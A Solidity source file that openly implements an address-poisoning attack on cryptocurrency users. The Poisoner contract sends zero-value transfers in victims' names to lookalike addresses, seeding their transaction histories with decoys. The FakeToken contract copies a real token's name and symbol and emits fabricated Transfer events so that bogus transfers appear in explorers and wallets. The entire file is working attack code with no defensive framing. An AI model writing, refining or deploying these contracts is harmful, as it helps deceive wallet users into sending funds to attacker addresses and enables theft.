// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IToken {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Address poisoning: transfers zero tokens in each victim's name to an address that looks like one they know.
contract Poisoner {
    function poison(address token, address[] calldata victims, address[] calldata lookalikes) external {
        for (uint256 i = 0; i < victims.length; i++) {
            IToken(token).transferFrom(victims[i], lookalikes[i], 0);
        }
    }
}

/// Has the symbol of a known token and no balances: it emits any transfer that its owner wants people to see.
contract FakeToken {
    event Transfer(address indexed from, address indexed to, uint256 value);

    string public name;
    string public symbol;
    uint8 public immutable decimals;

    constructor(string memory name_, string memory symbol_, uint8 decimals_) {
        name = name_;
        symbol = symbol_;
        decimals = decimals_;
    }

    function emitTransfers(address from, address[] calldata recipients, uint256 value) external {
        for (uint256 i = 0; i < recipients.length; i++) emit Transfer(from, recipients[i], value);
    }
}
